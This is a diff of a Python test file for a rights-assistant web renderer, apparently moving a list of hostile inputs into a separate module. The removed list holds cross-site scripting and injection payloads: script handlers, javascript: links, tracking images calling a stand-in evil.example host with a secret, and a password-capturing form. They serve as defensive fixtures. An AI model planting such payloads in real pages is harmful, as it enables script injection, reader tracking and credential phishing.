@@ -5,6 +5,13 @@ from datetime import date
 from typing import Any
 
 import pytest
+
+from rights_assistant.domain.answer import Answer, Block, BlockKind, Clarify, Line, Option, Outcome, Suggestion
+from rights_assistant.domain.question import Question
+from rights_assistant.domain.standing import Certainty, Force, Status
+from rights_assistant.web.draw import draw, link, plain
+from rights_assistant.web.words import Words
+from web.hostile import HOSTILE
 from web.stub import (
     ANNEX_3,
     ARTICLE_86,
@@ -18,50 +25,7 @@ from web.stub import (
     section,
 )
 
-from rights_assistant.domain.answer import Answer, Block, BlockKind, Clarify, Line, Option, Outcome, Suggestion
-from rights_assistant.domain.question import Question
-from rights_assistant.domain.standing import Certainty, Force, Status
-from rights_assistant.web.draw import draw, link, plain
-from rights_assistant.web.words import Words
-
 QUESTION = Question("Was a computer used?", TODAY)
-
-HOSTILE = [
-    ('<img src=x onerror="window.__x1=1">', "an image that runs a script"),
-    ("<script>window.__x2=1</script>", "a script"),
-    ("[c](javascript:window.__x3=1)", "a script link"),
-    ('<a href="javascript:window.__x4=1">j</a>', "a script link in HTML"),
-    ('<svg onload="window.__x5=1"></svg>', "a drawing that runs a script"),
-    ('<iframe srcdoc="<script>parent.__x6=1</script>"></iframe>', "a frame"),
-    ("![t](http://tracker.evil.example/p.png?q=secret)", "an image that tells on the reader"),
-    ("![t][r]\n\n[r]: http://tracker.evil.example/p.png", "an image by reference"),
-    ("<style>body{background:url(http://tracker.evil.example/s)}</style>", "a style that tells on the reader"),
-    ('<div style="position:fixed;inset:0">overlay</div>', "a sheet over the page"),
-    ('<form action="http://evil.example/f"><input name=pw><button>Go</button></form>', "a form that asks for a password"),
-    ('<link rel=stylesheet href="http://tracker.evil.example/l.css">', "a foreign style sheet"),
-    ('<video src="http://tracker.evil.example/v" autoplay></video>', "a film"),
-    ('<object data="http://tracker.evil.example/o"></object>', "an object"),
-    ('<meta http-equiv="refresh" content="0;url=http://evil.example">', "a jump elsewhere"),
-    ('[phish](http://evil.example/login "t")', "a foreign link with a title"),
-    ("<http://evil.example>", "a link in angle brackets"),
-    ("http://evil.example/x", "a bare address"),
-    ("www.evil.example", "a bare address without a scheme"),
-    ("someone@evil.example", "a bare mail address"),
-    ("[x]: http://evil.example\n[x]", "a link by reference"),
-    ('<a href="data:text/html,<script>1</script>">d</a>', "a page in a link"),
-    ("$\\href{javascript:window.__x7=1}{a}$", "a formula with a link"),
-    ("$$\\href{javascript:window.__x7=1}{a}$$", "a formula on its own line"),
-    ('<math><a xlink:href="javascript:1">m</a></math>', "a formula in HTML"),
-    ('```mermaid\ngraph TD;A-->B;click A "javascript:window.__x8=1"\n```', "a diagram that runs a script"),
-    ("`code` ~~~\n<b>x</b>\n~~~", "a code block"),
-    ("&lt;img src=x onerror=alert(1)&gt;", "a tag written with entities"),
-    ("&#91;x](http://evil.example)", "a bracket written with an entity"),
-    ("\\[x\\](http://evil.example)", "brackets that are escaped already"),
-    ("text\n# Heading\n> quote\n- item\n1. item\n---\n| a | b |\n|---|---|", "the shape of a document"),
-    ('<details open ontoggle="window.__x1=1">', "a fold that runs a script"),
-    ("[1](/source/ca/irpa/s-72:en:limits)", "a citation that is not one"),
-    ("<!--><img src=x onerror=window.__x1=1>-->", "a comment that closes early"),
-]
 
 _UNESCAPED = r"(?<!\\)(?:\\\\)*"
 
